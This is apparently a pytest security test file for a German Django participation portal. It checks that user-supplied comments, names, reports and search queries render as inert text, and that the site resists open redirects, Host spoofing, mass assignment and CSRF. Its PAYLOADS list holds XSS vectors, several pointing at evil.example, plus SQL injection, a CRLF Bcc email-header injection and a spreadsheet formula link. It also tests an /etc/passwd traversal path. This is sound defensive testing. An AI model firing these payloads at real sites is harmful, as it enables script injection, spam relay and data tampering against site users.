"""What people type is text: shown as text, mailed as text, and never an error page."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse

from gdb_portal.mail.services import send_due
from participation.enums import CommentStatus
from participation.models import Comment
from participation.moderation.models import Report
from tests.factories.accounts import UserFactory
from tests.factories.participation import CommentFactory

pytestmark = pytest.mark.django_db
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><button>Anmelden</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example></object>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "{{ 7|add:7 }} {% load i18n %} ${7*7} #{7*7} <%= 7*7 %>",
    "%s %(x)s {0} {x!r}",
    "\u202eesrever\u202c \u200f \u2066x\u2069",
    "Z̶̢̛̰͖a̸̛͎l̵̡̛g̷̨̛ơ̶̢",
    "🏳️‍🌈👩‍👩‍👧‍👦" * 20,
    "'; DROP TABLE participation_comment; --",
    '=HYPERLINK("http://evil.example","x")',
    "a\r\nBcc: opfer@example.org",
]
# What the portal's own pages are made of; anything else came from a person.
DANGEROUS = {"iframe", "object", "embed", "base", "math", "mglyph", "style", "noscript"}


class Elements(HTMLParser):
    """What a browser would make of the page."""

    def __init__(self):
        super().__init__()
        self.bad = []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if tag in DANGEROUS:
            self.bad.append((tag, attrs))
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            self.bad.append((tag, attrs))
        if any(name.startswith("on") for name in values):
            self.bad.append((tag, attrs))
        for name in ("href", "src", "action", "formaction"):
            value = (values.get(name) or "").strip().lower()
            # A link of ours may carry the words in its question, quoted; it must not lead there.
            leads_away = "evil" in urlsplit(value).netloc
            if leads_away or value.startswith(("javascript:", "data:text", "vbscript:")):
                self.bad.append((tag, attrs))
        if tag == "meta" and "http-equiv" in values:
            self.bad.append((tag, attrs))


def bad_elements(answer):
    parser = Elements()
    parser.feed(answer.content.decode())
    return parser.bad


@pytest.fixture(autouse=True)
def _nothing_counted_yet():
    cache.clear()


@pytest.mark.req("S21", "S23")
def test_comments_names_and_reports_are_shown_as_text(client, topic, moderator, administrator):
    for n, payload in enumerate(PAYLOADS):
        author = UserFactory(pseudonym=payload[:28] + str(n))
        comment = CommentFactory(topic=topic, author=author, published=True, text=payload)
        CommentFactory(topic=topic, author=author, text=payload)
        Report.objects.create(
            comment=comment, ground="rules", rule="4", explanation=payload, email=""
        )
    topic.title = topic.introduction = PAYLOADS[0]
    topic.save()
    first = Comment.objects.filter(status=CommentStatus.PUBLISHED).first()

    client.force_login(moderator)
    answers = [
        Client().get(topic.url),
        Client().get(topic.url, {"sortierung": "aelteste"}),
        Client().get(reverse("participation:topics")),
        Client().get(first.url),
        Client().get(reverse("reports:create", args=[first.pk])),
        client.get(topic.url),
        client.get("/konto/"),
    ]

    assert [answer.status_code for answer in answers] == [200] * len(answers)
    assert [bad_elements(answer) for answer in answers] == [[]] * len(answers)
    assert "14 " not in answers[0].content.decode().partition("7|add:7")[0][-4:]


@pytest.mark.req("S21")
@pytest.mark.parametrize("tab", ["neu", "meldungen", "entschieden"])
def test_the_queue_shows_text_as_text(client, topic, moderator, tab):
    for payload in PAYLOADS:
        comment = CommentFactory(topic=topic, text=payload)
        Report.objects.create(
            comment=comment, ground="rules", rule="4", explanation=payload, email=""
        )
    client.force_login(moderator)

    html = client.get(reverse("moderation:queue"), {"ansicht": tab}).content.decode()

    # The CMS has inline scripts of its own; none of them says this.
    for bad in ("<script>alert", "onerror=alert(1)>", "<iframe src=javascript", "<base href=//"):
        assert bad not in html


@pytest.mark.req("S21")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_search_shows_the_question_as_text(client, payload):
    answer = client.get(reverse("pages:search"), {"q": payload})

    assert answer.status_code == 200
    assert bad_elements(answer) == []


@pytest.mark.req("S31", "S33", "S49")
@pytest.mark.parametrize("poison", ["a\x00b", "\x00", "x" * 200_000, "a\r\nBcc: opfer@example.org"])
@pytest.mark.parametrize(
    "form", ["comment", "report", "vote", "login", "pseudonym", "search", "barrier"]
)
def test_poison_is_refused_without_an_error_page(client, topic, citizen, smtp, form, poison):
    comment = CommentFactory(topic=topic, published=True)
    client.force_login(citizen)
    url, data = {
        "comment": (reverse("participation:comment-create", args=[topic.slug]), {"text": poison}),
        "report": (
            reverse("reports:create", args=[comment.pk]),
            {"ground": "rules", "rule": "4", "explanation": poison, "email": f"{poison}@x.org"},
        ),
        "vote": (reverse("participation:topic-vote", args=[topic.slug]), {"value": poison}),
        "login": ("/konto/login/", {"login": poison, "password": poison}),
        "pseudonym": ("/konto/pseudonym/", {"pseudonym": poison}),
        "search": (reverse("pages:search"), {"q": poison}),
        "barrier": (
            reverse("pages:barrier"),
            {"message": poison, "email": poison, "page": poison, "text": poison},
        ),
    }[form]

    answer = client.get(url, data) if form == "search" else client.post(url, data)

    send_due()
    assert answer.status_code in {200, 302, 400, 405, 409, 422}
    assert all("opfer@example.org" not in str(m.items()) for m in smtp.messages)


@pytest.mark.req("S33", "S49")
@pytest.mark.parametrize(
    "query", ["nach=%00", "seite=%00", "q=%00", "q=%ff%fe", "seite=-1", "seite=9" * 1, "feld=%00",
              "seite=99999999999999999999", "status=%00", "bezirk[]=x", "a=" + "b" * 5000]
)  # fmt: skip
@pytest.mark.parametrize("path", ["/suche/", "/beteiligung/", "/verwaltungen/", "/vorgaenge/"])
def test_a_strange_address_is_no_error(client, path, query):
    assert client.get(f"{path}?{query}").status_code in {200, 301, 302, 400, 404}


@pytest.mark.req("S33", "S49")
@pytest.mark.parametrize(
    "path",
    ["/%00", "/beteiligung/%00/", "/beitraege/99999999999999999999/", "/%ff%fe/", "/" + "x" * 3000,
     "/beteiligung/../../etc/passwd", "//evil.example/", "/t/0/", "/meldungen/%00/"],
)  # fmt: skip
def test_a_strange_path_is_no_error(client, path):
    answer = client.get(path)

    assert answer.status_code in {301, 302, 400, 404}
    assert not (answer.get("Location") or "").startswith(("//", "http"))


@pytest.mark.req("S29")
def test_a_name_that_is_not_ours_is_refused(client, topic):
    client.get(topic.url)

    for host in (
        "evil.example",
        "testserver.evil.example",
        "testserver:80@evil.example",
        "",
        "a b",
    ):
        assert client.get(topic.url, headers={"host": host}).status_code == 400


@pytest.mark.req("S20")
def test_fields_nobody_asked_for_are_ignored(client, topic, citizen, other_citizen):
    client.force_login(citizen)

    client.post(
        reverse("participation:comment-create", args=[topic.slug]),
        {
            "text": "Mehr Bänke", "status": "published", "author": other_citizen.pk,
            "agree_count": "999", "published_at": "2020-01-01", "topic": "1", "id": "77",
            "is_answered": "1", "rule": "1", "reply_to": "1",
        },
    )  # fmt: skip

    comment = Comment.objects.get()
    assert comment.author == citizen
    assert comment.topic == topic
    assert comment.status == CommentStatus.PENDING
    assert comment.published_at is None
    assert comment.agree_count == 0
    assert comment.reply_to is None


@pytest.mark.req("S28")
@pytest.mark.parametrize(
    "target", ["//evil.example", "https://evil.example", "/\\evil.example", "javascript:alert(1)"]
)
def test_a_vote_leads_to_no_other_site(client, topic, citizen, target):
    comment = CommentFactory(topic=topic, published=True)
    client.force_login(citizen)

    answer = client.post(
        reverse("participation:comment-vote", args=[comment.pk]),
        {"value": "agree", "next": target},
    )

    assert answer.url.startswith(topic.url)


@pytest.mark.req("S17")
def test_nobody_touches_the_comment_of_another(client, topic, citizen, other_citizen):
    comment = CommentFactory(topic=topic, author=citizen, published=True, text="Meins")
    client.force_login(other_citizen)

    for name in ("comment-edit", "comment-withdraw"):
        url = reverse(f"participation:{name}", args=[comment.pk])
        assert client.get(url).status_code == 404
        assert client.post(url, {"text": "Deins"}).status_code == 404

    comment.refresh_from_db()
    assert (comment.text, comment.status) == ("Meins", CommentStatus.PUBLISHED)


@pytest.mark.req("S07")
@pytest.mark.parametrize("method", ["put", "patch", "delete", "options", "trace"])
def test_other_methods_change_nothing(client, topic, citizen, method):
    client.force_login(citizen)

    answer = getattr(client, method)(reverse("participation:comment-create", args=[topic.slug]))

    assert answer.status_code == 405
    assert Comment.objects.count() == 0


@pytest.mark.req("S07")
def test_every_form_wants_its_token(topic, citizen):
    client = Client(enforce_csrf_checks=True)
    client.force_login(citizen)
    comment = CommentFactory(topic=topic, published=True)

    for url in (
        reverse("participation:comment-create", args=[topic.slug]),
        reverse("participation:topic-vote", args=[topic.slug]),
        reverse("reports:create", args=[comment.pk]),
        "/konto/logout/",
        "/konto/sitzungen/",
        "/konto/loeschen/",
    ):
        answer = client.post(url, {"text": "Das sind mehr als zwanzig Zeichen.", "value": "agree"})
        assert answer.status_code == 403, url
